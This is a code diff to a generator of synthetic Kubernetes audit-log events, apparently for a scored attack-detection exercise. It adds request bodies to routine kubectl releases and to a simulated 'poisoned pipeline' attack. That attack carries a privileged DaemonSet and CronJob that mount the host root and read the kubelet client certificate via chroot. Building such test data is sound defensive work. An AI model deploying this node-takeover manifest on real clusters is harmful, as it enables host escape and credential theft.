@@ -128,7 +128,60 @@ function addressOf(p: Person, where: Where, n: number): string {
   }
 }
 
-type Req = { method: string; path: string; host?: string; headers?: Record<string, string> };
+type Req = { method: string; path: string; host?: string; headers?: Record<string, string>; body?: string };
+
+/** The teams' own registry; images by tag (a `:latest` worker among them), as most teams ship. */
+const REGISTRY = 'registry.example.org/shop';
+const APPLY_PATCH = { 'content-type': 'application/strategic-merge-patch+json' };
+const LAST_APPLIED = 'kubectl.kubernetes.io/last-applied-configuration';
+
+/** The object `kubectl apply -f release/<svc>/` sends for `name` (a ConfigMap or a Deployment), at release `tag`. */
+function manifest(ns: string, name: string, svc: string, tag: string): Record<string, unknown> {
+  const [kind, obj] = name.split('/') as [string, string];
+  if (kind === 'configmaps') {
+    return { apiVersion: 'v1', kind: 'ConfigMap', metadata: { name: obj, namespace: ns }, data: { LOG_LEVEL: 'info', RELEASE: tag, UPSTREAM_URL: `http://${svc}-api.${ns}.svc:8080` } };
+  }
+  const part = obj.slice(svc.length + 1);
+  const image = part === 'web' ? 'nginx:1.27' : part === 'worker' ? `${REGISTRY}/${svc}-worker:latest` : `${REGISTRY}/${svc}-${part}:${tag}`;
+  return {
+    apiVersion: 'apps/v1',
+    kind: 'Deployment',
+    metadata: { name: obj, namespace: ns, labels: { app: obj, team: svc } },
+    spec: {
+      replicas: 3,
+      selector: { matchLabels: { app: obj } },
+      template: {
+        metadata: { labels: { app: obj, team: svc } },
+        spec: {
+          serviceAccountName: svc,
+          containers: [
+            {
+              name: part,
+              image,
+              ports: [{ name: 'http', containerPort: 8080 }],
+              envFrom: [{ configMapRef: { name: `${svc}-config` } }],
+              resources: { requests: { cpu: '250m', memory: '256Mi' }, limits: { memory: '512Mi' } },
+              readinessProbe: { httpGet: { path: '/healthz', port: 'http' } },
+              securityContext: { allowPrivilegeEscalation: false, runAsNonRoot: true, capabilities: { drop: ['ALL'] } },
+            },
+          ],
+        },
+      },
+    },
+  };
+}
+
+/** Client-side apply's PATCH: what changed since the last apply (the release's images or data), and the new last-applied annotation. */
+function applyBody(ns: string, name: string, svc: string, tag: string): string {
+  const full = manifest(ns, name, svc, tag);
+  const annotations = { [LAST_APPLIED]: `${JSON.stringify(full)}\n` };
+  if (full.kind === 'ConfigMap') return JSON.stringify({ data: full.data, metadata: { annotations } });
+  const c = ((full.spec as { template: { spec: { containers: { name: string; image: string }[] } } }).template.spec.containers)[0]!;
+  return JSON.stringify({
+    metadata: { annotations },
+    spec: { template: { spec: { '$setElementOrder/containers': [{ name: c.name }], containers: [{ image: c.image, name: c.name }] } } },
+  });
+}
 
 function pod(svc: string, rand: () => number): string {
   return `${svc}-api-6d9f7c-${['k2x8p', 'm7q4z', 'w3r9t'][Math.floor(rand() * 3)]}`;
@@ -162,12 +215,16 @@ function browserTask(rand: () => number, p: Person): Req[] {
   return out;
 }
 
-/** `kubectl apply -f release/<svc>/`: kubectl GETs each object then PATCHes it (client-side apply). */
-function applyAll(ns: string, objects: [string, string][]): Req[] {
+/**
+ * `kubectl apply -f release/<svc>/`: kubectl GETs each object then PATCHes it (client-side apply).
+ * With `release` (the service and the release's tag) the PATCHes carry their bodies.
+ */
+function applyAll(ns: string, objects: [string, string][], release?: [string, string]): Req[] {
   const out: Req[] = [];
   for (const [base, name] of objects) {
     out.push({ method: 'GET', path: `${base}/namespaces/${ns}/${name}` });
-    out.push({ method: 'PATCH', path: `${base}/namespaces/${ns}/${name}?fieldManager=kubectl-client-side-apply&fieldValidation=Strict` });
+    const patch: Req = { method: 'PATCH', path: `${base}/namespaces/${ns}/${name}?fieldManager=kubectl-client-side-apply&fieldValidation=Strict` };
+    out.push(release ? { ...patch, headers: APPLY_PATCH, body: applyBody(ns, name, release[0], release[1]) } : patch);
   }
   return out;
 }
@@ -236,7 +293,7 @@ export function workday6(seed = 41): DayEvent[] {
         const ua = browser ? (p.idx === 8 || p.idx === 13 ? FIREFOX(p.os) : CHROME(replaced(at) ? MAC : p.os, major)) : KUBECTL(kv, kos);
         const headers = browser && !ua.includes('Firefox') ? { 'sec-ch-ua-platform': PLATFORM_HINT[replaced(at) ? MAC : p.os]!, ...q.headers } : q.headers;
         const login = replaced(at) ? laptop : browser && p.kind === 'sso' ? sso : morning;
-        mine.push({ at: Math.round(at), actor: p.name, scored, ip: addressOf(p, where, n++), ua, login, method: q.method, path: q.path, ...(headers ? { headers } : {}), ...(q.host ? { host: q.host } : {}) });
+        mine.push({ at: Math.round(at), actor: p.name, scored, ip: addressOf(p, where, n++), ua, login, method: q.method, path: q.path, ...(headers ? { headers } : {}), ...(q.host ? { host: q.host } : {}), ...(q.body !== undefined ? { body: q.body } : {}) });
       };
       for (const [from, to, where] of blocks) {
         let t = day + from * H;
@@ -268,7 +325,8 @@ export function workday6(seed = 41): DayEvent[] {
         // The afternoon release train: one service every 12 minutes, 13:30–16:30, in production.
         for (let j = 0; j < 15; j++) {
           const svc = SERVICES[j % 4]!;
-          const reqs = [...applyAll(`prod-${svc}`, releaseObjects(svc)), { method: 'GET', path: `/apis/apps/v1/namespaces/prod-${svc}/deployments/${svc}-api?watch=true` }];
+          const tag = `${scored ? '2027.02.16' : '2027.02.15'}-${j + 1}`;
+          const reqs = [...applyAll(`prod-${svc}`, releaseObjects(svc), [svc, tag]), { method: 'GET', path: `/apis/apps/v1/namespaces/prod-${svc}/deployments/${svc}-api?watch=true` }];
           run(day + 13.5 * H + j * 12 * M, reqs, 350, 8);
         }
       }
@@ -303,7 +361,10 @@ export function workday6(seed = 41): DayEvent[] {
       const ip = `10.70.${j % 2}.${(j * 37) % 200 + 10}`;
       const svc = SERVICES[j % 4]!;
       const ua = KUBECTL('v1.32.4', 'linux/amd64');
-      applyAll(`${svc}-staging`, releaseObjects(svc)).forEach((q, k) => events.push({ at: t + k * 300, actor: 'ci', scored, ip, ua, login, method: q.method, path: q.path }));
+      const tag = `${new Date(t).toISOString().slice(0, 10).replaceAll('-', '.')}-rc${j + 1}`;
+      applyAll(`${svc}-staging`, releaseObjects(svc), [svc, tag]).forEach((q, k) =>
+        events.push({ at: t + k * 300, actor: 'ci', scored, ip, ua, login, method: q.method, path: q.path, ...(q.body !== undefined ? { headers: q.headers!, body: q.body } : {}) }),
+      );
       events.push({ at: t + 30 * S, actor: 'ci', scored, ip, ua, login, method: 'GET', path: `/apis/apps/v1/namespaces/${svc}-staging/deployments/${svc}-api?watch=true` });
     }
   }
@@ -319,10 +380,10 @@ function attacks6(people: Person[], routine: DayEvent[]): DayEvent[] {
     for (const x of routine) if (x.actor === p.name && x.scored && x.host === undefined && x.ua.startsWith('kubectl') && (e === undefined || x.at <= t)) e = x;
     return e!;
   };
-  type R = [string, string, boolean, Record<string, string>?];
+  type R = [string, string, boolean, Record<string, string>?, string?];
   const add = (attack: string, t0: number, ip: string, ua: string, login: Login, reqs: R[], gapMs: number) =>
-    reqs.forEach(([method, path, sensitive, h], k) =>
-      out.push({ at: Math.round(t0 + k * gapMs), actor: `attacker:${attack}`, attack, sensitive, scored: true, ip, ua, login, method, path, ...(h ? { headers: h } : {}) }),
+    reqs.forEach(([method, path, sensitive, h, body], k) =>
+      out.push({ at: Math.round(t0 + k * gapMs), actor: `attacker:${attack}`, attack, sensitive, scored: true, ip, ua, login, method, path, ...(h ? { headers: h } : {}), ...(body !== undefined ? { body } : {}) }),
     );
   // The payments team (not replayed here) owns what an attacker wants most; nobody above works there.
   const other = (_svc: string) => 'payments';
@@ -383,10 +444,37 @@ function attacks6(people: Person[], routine: DayEvent[]): DayEvent[] {
   // 9. A poisoned pipeline: a job on the runner pool creates a privileged DaemonSet and a CronJob
   // (hostPath /) in the staging namespace CI deploys to every day.
   const poisoned: Login = { sub: 'ci-apply@example.org', sid: 'ci6:poisoned', authTime: Math.floor((D6_DAY1 + 12.9 * H) / 1000), acr: 'urn:stepgate:aal1' };
+  // kubectl create sends JSON; both images come from the teams' own registry, as CI's do.
+  const json = { 'content-type': 'application/json' };
+  const nodeTaker = {
+    hostPID: true,
+    containers: [
+      {
+        name: 'warmup',
+        image: `${REGISTRY}/pricing-api:2027.02.16-rc22`,
+        command: ['/bin/sh', '-c', 'chroot /host /bin/sh -c "cat /var/lib/kubelet/pki/kubelet-client-current.pem"'],
+        securityContext: { privileged: true },
+        volumeMounts: [{ name: 'host', mountPath: '/host' }],
+      },
+    ],
+    volumes: [{ name: 'host', hostPath: { path: '/' } }],
+  };
+  const daemonSet = {
+    apiVersion: 'apps/v1',
+    kind: 'DaemonSet',
+    metadata: { name: 'pricing-node-cache', namespace: 'pricing-staging' },
+    spec: { selector: { matchLabels: { app: 'pricing-node-cache' } }, template: { metadata: { labels: { app: 'pricing-node-cache' } }, spec: nodeTaker } },
+  };
+  const cronJob = {
+    apiVersion: 'batch/v1',
+    kind: 'CronJob',
+    metadata: { name: 'pricing-cache-warmup', namespace: 'pricing-staging' },
+    spec: { schedule: '*/10 * * * *', jobTemplate: { spec: { template: { spec: { restartPolicy: 'OnFailure', ...nodeTaker } } } } },
+  };
   add('poisoned pipeline: privileged DaemonSet', D6_DAY1 + 12.9 * H + 20 * S, '10.70.1.84', KUBECTL('v1.32.4', 'linux/amd64'), poisoned,
-    [['POST', '/apis/apps/v1/namespaces/pricing-staging/daemonsets', true]], 1000);
+    [['POST', '/apis/apps/v1/namespaces/pricing-staging/daemonsets', true, json, JSON.stringify(daemonSet)]], 1000);
   add('poisoned pipeline: CronJob mounting the node', D6_DAY1 + 12.95 * H + 20 * S, '10.70.0.85', KUBECTL('v1.32.4', 'linux/amd64'), { ...poisoned, sid: 'ci6:poisoned2' },
-    [['POST', '/apis/batch/v1/namespaces/pricing-staging/cronjobs', true]], 1000);
+    [['POST', '/apis/batch/v1/namespaces/pricing-staging/cronjobs', true, json, JSON.stringify(cronJob)]], 1000);
   // 10. A refresh token stolen from the newlaptop engineer's old laptop: when the new laptop's
   // sign-in happens (12:59:20), the attacker refreshes into that login and acts 3 s later.
   const nl = by('newlaptop');
